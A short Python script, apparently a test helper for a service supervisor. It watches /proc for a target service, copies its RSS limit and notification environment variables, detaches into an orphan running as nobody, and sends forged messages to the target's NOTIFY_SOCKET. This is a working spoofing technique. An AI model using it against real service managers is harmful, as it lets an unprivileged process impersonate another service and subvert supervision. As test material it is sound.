"""forge.py VICTIM MESSAGE...: an unprivileged orphan with the tracking limit and environment of another service.

It waits for a process whose last argument is VICTIM, takes over that process's hard limit of RSS and its variables,
leaves its parent and its session, becomes the user nobody, and sends each MESSAGE to the NOTIFY_SOCKET of the victim
(/proc/net/unix shows the paths to every user). PID in a message stands for its own pid.
"""

import os
import resource
import socket
import sys
import time


def victim() -> tuple[int, bytes]:
    """The hard limit and the environment of the victim, once it is running."""
    while True:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as file:
                    arguments = file.read().split(b"\0")[:-1]
                if (
                    int(pid) == os.getpid()
                    or not arguments
                    or arguments[-1] != sys.argv[1].encode()
                    or b"forge.py" in arguments[0]
                ):
                    continue
                with open(f"/proc/{pid}/limits", encoding="ascii") as file:
                    [line] = [line for line in file if line.startswith("Max resident set")]
                with open(f"/proc/{pid}/environ", "rb") as file:
                    return int(line.split()[4]), file.read()
            except OSError:
                continue
        time.sleep(0.01)


limit, environment = victim()
if os.fork():
    time.sleep(1000)  # the service keeps running beside the orphan
if os.fork():
    os._exit(0)
os.setsid()
resource.setrlimit(resource.RLIMIT_RSS, (limit, limit))
for item in environment.split(b"\0"):
    name, _, value = item.partition(b"=")
    if name.startswith((b"COHABIT_", b"NOTIFY_")):
        os.environb[name] = value
os.setgroups([])
os.setresgid(65534, 65534, 65534)
os.setresuid(65534, 65534, 65534)
while os.getppid() != 1:
    time.sleep(0.001)
for message in sys.argv[2:]:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
        sender.sendto(message.replace("PID", str(os.getpid())).encode(), os.environ["NOTIFY_SOCKET"])
print("forged", flush=True)
time.sleep(1000)
